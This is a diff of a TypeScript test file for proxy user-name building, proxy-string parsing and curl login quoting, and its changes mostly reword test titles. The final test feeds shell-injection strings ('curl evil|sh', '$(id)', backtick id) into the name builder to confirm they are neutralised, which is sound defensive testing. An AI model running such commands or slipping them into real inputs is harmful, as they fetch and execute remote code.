@@ -7,7 +7,7 @@ test('the user name lists what was chosen in the documented order', () => {
   )
 })
 
-test('a lifetime without a session is left out, and bounds hold', () => {
+test('a lifetime without a session is left out, and values are limited to their bounds', () => {
   expect(proxyUserName('U', { lifetime: '5' })).toBe('U')
   expect(proxyUserName('U', { session: 'a-b', lifetime: '99999' })).toBe('U-session-ab-lifetime-1440')
 })
@@ -17,7 +17,7 @@ test.each([
   ['host.example:8000:u:p', { scheme: 'http', host: 'host.example', port: 8000, user: 'u', password: 'p' }],
   ['u:p@host.example:1080', { scheme: 'http', host: 'host.example', port: 1080, user: 'u', password: 'p' }],
   ['socks5://host.example:1080', { scheme: 'socks5h', host: 'host.example', port: 1080, user: '', password: '' }],
-])('%s is read', (text, parts) => {
+])('%s is parsed', (text, parts) => {
   expect(parseProxy(text)).toEqual(parts)
 })
 
@@ -32,21 +32,21 @@ test('special characters are encoded in URLs only', () => {
 })
 
 test.each([
-  ['a city in other letters', { city: '東京' }, 'U'],
-  ['a city of which a letter would be lost', { city: 'Łódź' }, 'U'],
+  ['a city in another script', { city: '東京' }, 'U'],
+  ['a city with a letter that has no plain form', { city: 'Łódź' }, 'U'],
   ['a city with an apostrophe and a hyphen', { city: "Val-d'Or" }, 'U-city-valdor'],
-  ['a city of signs alone', { city: '--' }, 'U'],
-  ['a network in words', { asn: 'abc' }, 'U'],
-  ['a network with its letters', { asn: 'AS64500' }, 'U-asn-64500'],
-  ['a session of signs alone, and so its lifetime', { session: '--', lifetime: '5' }, 'U'],
+  ['a city of punctuation only', { city: '--' }, 'U'],
+  ['an ASN that is no number', { asn: 'abc' }, 'U'],
+  ['an ASN with its prefix', { asn: 'AS64500' }, 'U-asn-64500'],
+  ['a session of punctuation only, with its lifetime', { session: '--', lifetime: '5' }, 'U'],
   ['a session that is too long', { session: 'a'.repeat(40) }, `U-session-${'a'.repeat(32)}`],
   ['a lifetime with a fraction', { session: 's', lifetime: '1.5' }, 'U-session-s-lifetime-1'],
   ['a lifetime below the bound', { session: 's', lifetime: '0.5' }, 'U-session-s-lifetime-1'],
   ['a lifetime in words', { session: 's', lifetime: 'long' }, 'U-session-s'],
   ['a lifetime of blanks', { session: 's', lifetime: ' ' }, 'U-session-s'],
-  ['a lifetime without end', { session: 's', lifetime: 'Infinity' }, 'U-session-s'],
+  ['an infinite lifetime', { session: 's', lifetime: 'Infinity' }, 'U-session-s'],
   ['a country that is no code', { country: 'Japan' }, 'U'],
-])('%s', (_name, exit, name) => {
+])('the user name handles %s', (_name, exit, name) => {
   expect(proxyUserName('U', exit)).toBe(name)
 })
 
@@ -54,12 +54,12 @@ test('the name of a city loses its accents, not its letters', () => {
   expect(proxyUserName('u', { country: 'BR', city: 'São Paulo' })).toBe('u-country-br-city-saopaulo')
 })
 
-test('curl is given a login that it decodes and that the shell leaves alone', () => {
+test('the login for curl is percent-encoded and quoted for the shell', () => {
   const parts = { scheme: 'http', host: 'h', port: 1, user: 'a:b', password: `50%'s` } as const
   expect(proxyNotations(parts).find(({ name }) => name === 'curl')!.text).toBe(String.raw`-x http://h:1 -U 'a%3Ab:50%25'\''s'`)
 })
 
-test.each(['us"; curl evil|sh; echo "', '$(id)', '`id`', "us'", 'us\nid', 'a\\b'])('%j can not leave the user name', (typed) => {
+test.each(['us"; curl evil|sh; echo "', '$(id)', '`id`', "us'", 'us\nid', 'a\\b'])('%j cannot break out of the user name', (typed) => {
   const name = proxyUserName('U', { country: typed, city: typed, asn: typed, session: typed, lifetime: typed })
   expect(name).toMatch(/^U(-[a-z]+-[A-Za-z0-9]+)*$/)
 })
